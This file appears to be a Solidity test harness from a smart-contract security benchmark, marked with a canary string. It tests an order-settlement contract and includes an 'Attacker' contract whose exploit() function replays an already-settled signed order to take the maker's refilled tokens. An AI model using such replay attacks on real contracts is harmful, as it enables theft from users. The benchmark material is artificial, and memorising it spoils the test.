// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-aecd7f6e-143a-45f2-a75d-27882d3b3550

import "./StandingOrders.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function prank(address who) external;
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function expectRevert(bytes calldata reason) external;
}

contract Receipt is IToken {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public override balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        if (asleep) return false;
        if (from != msg.sender) allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Taker {
    StandingOrders internal desk;

    constructor(StandingOrders desk_, Receipt money) {
        desk = desk_;
        money.approve(address(desk_), type(uint256).max);
    }

    function take(StandingOrders.Order calldata order, bytes calldata signature) external {
        desk.settle(order, signature);
    }
}

/// An account with money that reads settled orders from the chain.
contract Attacker is Taker {
    constructor(StandingOrders desk_, Receipt money) Taker(desk_, money) {}
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_790_000_000;
    uint256 private constant MAKER = 0xBA41E7;

    Receipt public barley;
    Receipt public money;
    StandingOrders public desk;
    Taker public dealer;
    Attacker public reader;
    address public maker;
    StandingOrders.Order internal spring;
    bytes internal springSignature;

    function setUp() public {
        vm.warp(START);
        barley = new Receipt();
        money = new Receipt();
        desk = new StandingOrders(address(0x7111));
        maker = vm.addr(MAKER);
        barley.mint(maker, 1_000e18);
        vm.prank(maker);
        barley.approve(address(desk), type(uint256).max);
        dealer = new Taker(desk, money);
        money.mint(address(dealer), 500_000e18);

        // The order of this spring: 400 for 200 each. The dealer takes it.
        spring = _order(400e18, 80_000e18, START + 120 days);
        springSignature = _sign(spring);
        dealer.take(spring, springSignature);

        // Prices rise; weeks later the maker fills its silo to the same level, at the new price.
        vm.warp(START + 40 days);
        barley.mint(maker, 400e18);

        reader = new Attacker(desk, money);
        money.mint(address(reader), 80_080e18);
    }

    function _order(uint128 give, uint128 want, uint256 until) internal view returns (StandingOrders.Order memory) {
        return StandingOrders.Order(
            maker, barley, money, give, want, uint64(until), address(0), desk.stampOf(maker, barley)
        );
    }

    function _sign(StandingOrders.Order memory order) internal returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(MAKER, desk.digestOf(order));
        return abi.encodePacked(r, s, v);
    }

    function _refused(StandingOrders.Order memory order, bytes memory signature) internal {
        try dealer.take(order, signature) {
            revert("order was taken");
        } catch {}
    }

    function test_Regular() public {
        require(money.balanceOf(maker) == 80_000e18, "maker was paid");
        require(barley.balanceOf(address(dealer)) == 400e18, "dealer got its barley");
        require(money.balanceOf(address(0x7111)) == 80e18, "fee");

        // Two orders under one stamp: the first to be settled trades, the other no longer does.
        StandingOrders.Order memory small = _order(10e18, 3_200e18, START + 60 days);
        StandingOrders.Order memory large = _order(600e18, 186_000e18, START + 60 days);
        bytes memory a = _sign(small);
        bytes memory b = _sign(large);
        require(desk.isOpen(small, address(dealer)) && desk.isOpen(large, address(dealer)), "both open");
        dealer.take(small, a);
        require(barley.balanceOf(address(dealer)) == 410e18, "small order");
        require(!desk.isOpen(small, address(dealer)) && !desk.isOpen(large, address(dealer)), "both done");
        _refused(small, a);
        _refused(large, b);

        // Changed, withdrawn, reserved and late orders.
        StandingOrders.Order memory next = _order(100e18, 33_000e18, START + 60 days);
        bytes memory c = _sign(next);
        next.wantAmount = 1;
        _refused(next, c);
        next.wantAmount = 33_000e18;
        try desk.withdraw(next) {
            revert("withdrawn by a stranger");
        } catch {}
        vm.prank(maker);
        desk.withdraw(next);
        _refused(next, c);
        next.onlyFor = address(this);
        c = _sign(next);
        _refused(next, c);
        next.onlyFor = address(dealer);
        c = _sign(next);
        vm.warp(START + 60 days + 1);
        _refused(next, c);
        vm.warp(START + 60 days);
        dealer.take(next, c);
        require(barley.balanceOf(maker) == 890e18, "maker's silo");
        require(desk.trades(maker, barley) == 3, "three trades");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// A receipt that says no is believed.
    function test_RefusesFailedTransfers() public {
        StandingOrders.Order memory order = _order(10e18, 10e18, START + 120 days);
        bytes memory signature = _sign(order);
        money.sleep(true);
        refuses(address(dealer), "StandingOrders: transfer");
        desk.settle(order, signature);
    }

    function exploit() public {
        reader.take(spring, springSignature);
    }

    function test_Exploit() public {
        uint256 before = barley.balanceOf(address(reader));
        exploit();
        require(barley.balanceOf(address(reader)) >= before + 400e18, "no barley");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(reader);
    }
}
